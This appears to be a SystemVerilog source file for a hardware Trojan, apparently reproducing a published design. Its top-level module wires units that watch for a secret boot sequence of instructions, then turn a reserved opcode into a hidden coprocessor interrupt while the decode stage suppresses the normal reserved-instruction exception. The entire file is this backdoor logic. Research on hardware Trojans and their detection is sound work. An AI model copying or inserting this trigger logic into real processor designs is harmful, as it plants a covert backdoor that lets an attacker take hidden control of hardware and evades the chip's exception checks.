// hit_trojan: the hidden instruction Trojan, as implanted in the decode stage.
//
// It groups the four Trojan units: Inst (hit_inst) recognises boot-sequence
// instructions, State (hit_state) follows the boot sequence over valid instructions and
// holds the per-state mask, Illegal Inst (hit_illegal_inst) recognises the reserved
// opcode, and MASK (hit_mask) lets that recognition through as the hidden interrupt only
// in the last state. hit_int is combinational on the decode-stage instruction and the
// registered state; it is meant to travel with the instruction to the coprocessor, and
// the decode stage suppresses the reserved-instruction exception (ERINS) of that
// instruction. Without the full boot sequence the same illegal instruction only raises
// ERINS. Structure follows the source model; widths and encodings are set in hit_pkg.
module hit_trojan
  import hit_pkg::*;
#(
  parameter int                      BOOT_LEN       = BOOT_LEN_DEF,
  parameter inst_id_e [BOOT_LEN-1:0] BOOT_SEQ       = BOOT_SEQ_DEF,
  parameter logic     [BOOT_LEN-1:0] REUSE          = BOOT_REUSE_DEF,
  parameter int                      MASK_W         = MASK_W_DEF,
  parameter logic [5:0]              ILLEGAL_OPCODE = ILLEGAL_OPCODE_DEF,
  localparam int SW = $clog2(BOOT_LEN + 1)
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic              valid,    // decode-stage instruction is real, not a null
  input  logic [31:0]       instr,
  input  inst_id_e          dec_id,   // reused decoder output
  output logic              hit_int,  // hidden interrupt request for this instruction
  output logic [SW-1:0]     state,
  output logic [MASK_W-1:0] mask
);
  logic [BOOT_LEN-1:0] match;
  logic                illegal;

  hit_inst #(.BOOT_LEN(BOOT_LEN), .BOOT_SEQ(BOOT_SEQ), .REUSE(REUSE)) u_inst (
    .instr, .dec_id, .match);

  hit_state #(.BOOT_LEN(BOOT_LEN), .MASK_W(MASK_W)) u_state (
    .clk, .rst_n, .valid, .match, .salt(instr[MASK_W-1:0]), .state, .mask);

  hit_illegal_inst #(.ILLEGAL_OPCODE(ILLEGAL_OPCODE)) u_illegal (
    .valid, .instr, .illegal);

  hit_mask #(.MASK_W(MASK_W)) u_mask (
    .illegal, .mask, .int_req(hit_int));
endmodule
